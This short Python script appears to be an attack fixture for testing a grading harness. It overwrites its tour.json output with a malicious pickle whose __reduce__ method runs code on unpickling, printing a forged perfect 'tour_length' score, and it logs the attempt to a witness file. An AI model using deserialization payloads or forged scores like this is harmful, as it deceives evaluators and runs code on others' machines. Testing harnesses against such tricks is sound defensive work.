"""Writes an artifact that runs code in whoever unpickles it.

needs: project
"""

import json
import os
import pickle
from pathlib import Path

import numpy as np
from prepare import CITIES

WITNESS = Path(os.environ["ATTACK_WITNESS"])

tour = list(range(CITIES))
np.random.default_rng(0).shuffle(tour)
Path("tour.json").write_text(json.dumps({"tour": tour}))


class Boast:
    def __reduce__(self):
        return print, ("tour_length: 1.000000",)


Path("tour.json").write_bytes(pickle.dumps(Boast()))
WITNESS.write_text("wrote a pickle")
